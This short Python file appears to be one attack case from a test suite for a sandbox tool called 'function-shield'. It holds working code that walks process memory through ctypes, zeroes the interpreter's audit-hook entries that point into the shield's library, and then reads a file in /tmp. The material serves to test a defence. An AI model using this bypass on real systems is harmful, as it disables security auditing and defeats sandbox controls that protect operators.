# class: switch_off
# rule: read_write_tmp
# also: native_code
# success: the list of audit hooks in the interpreter's memory is emptied, and a file in /tmp read
# proof: read
import ctypes
import struct

from attack import FILE, attempt


def mappings():
    with open("/proc/self/maps") as maps:
        for line in maps:
            fields = line.split()
            low, high = (int(part, 16) for part in fields[0].split("-"))
            yield low, high, fields[1], fields[-1]


@attempt
def steal():
    known = list(mappings())
    core = [(low, high) for low, high, _, path in known if "function-shield.so" in path]
    readable = [
        (low, high) for low, high, mode, path in known if mode[0] == "r" and path[:2] != "[v"
    ]

    def word(at):
        return struct.unpack("<Q", ctypes.string_at(at, 8))[0]

    runtime = ctypes.addressof(ctypes.c_char.in_dll(ctypes.pythonapi, "_PyRuntime"))
    end = next(high for low, high in readable if low <= runtime < high)
    for at in range(runtime, min(end, runtime + 400000) - 8, 8):
        entry = word(at)
        if any(low <= entry < high - 24 for low, high in readable) and entry % 8 == 0:
            function = word(entry + 8)
            if any(low <= function < high for low, high in core):
                ctypes.memset(at, 0, 8)
    return open(FILE).read()
